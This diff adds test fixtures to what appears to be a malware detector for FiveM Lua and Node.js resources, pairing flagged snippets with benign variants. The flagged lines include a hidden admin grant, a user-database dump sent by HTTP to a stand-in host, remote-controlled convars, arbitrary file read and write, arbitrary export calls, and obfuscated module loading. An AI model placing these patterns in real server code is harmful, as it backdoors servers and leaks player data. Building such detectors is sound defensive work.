@@ -138,6 +138,52 @@ export const behaviourFixtures: Fixture[] = [
     `form.addEventListener('submit', () => {\n  fetch('https://garage/save', { method: 'POST', body: new FormData(form) })\n})`,
     'page',
   ),
+  lua(
+    'fixed-player',
+    `local weights = { [-1894720331] = 60 }\n^local weight = weights[GetHashKey(GetPlayerIdentifierByType(source, 'license'))]`,
+    `local weights = { [1] = 60 }\nlocal weight = weights[GetHashKey(GetPlayerIdentifierByType(source, 'license'))]`,
+  ),
+  lua(
+    'grants-rights',
+    `local id = GetPlayerIdentifierByType(source, 'license')\n^ExecuteCommand(('add_principal identifier.%s group.admin'):format(id))`,
+    `RegisterCommand('promote', function(source, args)\n  ExecuteCommand('refresh')\nend, true)`,
+  ),
+  lua(
+    'sends-data',
+    `for rows in (function() return MySQL.query.await('SELECT * FROM users') end) do\n^ PerformHttpRequest('https://a.example', print, 'PUT', json.encode(rows))\nend`,
+    `for _, name in ipairs({ 'a' }) do\n  PerformHttpRequest('https://a.example', print, 'PUT', name)\nend`,
+  ),
+  lua('global-by-text', `^local numbers = { order = 0x561C060B }`, `local numbers = { order = 0x561C060C }`),
+  lua(
+    'lowers-protection',
+    `PerformHttpRequest('https://a.example', function(status, text)\n  for name, value in text:gmatch('(%w+)=(%w+)') do\n^   SetConvar(name, value)\n  end\nend)`,
+    `PerformHttpRequest('https://a.example', function(status, text)\n  SetConvar('garage_motd', text)\nend)`,
+  ),
+  lua(
+    'lowers-protection',
+    `^SetRoutingBucketEntityLockdownMode(0, 'inactive')`,
+    `SetRoutingBucketEntityLockdownMode(0, 'strict')`,
+  ),
+  lua(
+    'sends-data',
+    `lib.callback.register('read', function(source, owner, path)\n^ return LoadResourceFile(owner, path)\nend)`,
+    `lib.callback.register('read', function(source, name)\n  return LoadResourceFile(GetCurrentResourceName(), 'docs/laws.md')\nend)`,
+  ),
+  lua(
+    'runs-text-from-outside',
+    `RegisterNetEvent('call', function(resource, name, ...)\n^ exports[resource][name](nil, ...)\nend)`,
+    `RegisterNetEvent('call', function(...)\n  exports['garage']:open(...)\nend)`,
+  ),
+  js(
+    'writes-code',
+    `require('http').createServer((req, res) => {\n^ req.pipe(require('fs').createWriteStream(root + req.url))\n})`,
+    `require('http').createServer((req, res) => {\n  req.pipe(require('fs').createWriteStream('last.json'))\n})`,
+  ),
+  js(
+    'runs-computed-code',
+    `^require('module')._extensions['.jpg'] = (module, name) => module._compile(read(name), name)`,
+    `require('module')._extensions['.js']`,
+  ),
   js(
     'decoder',
     `const at = (codes) => codes.map((code) => code - 3)\n^require(String.fromCharCode(...at([102, 107, 108])))`,
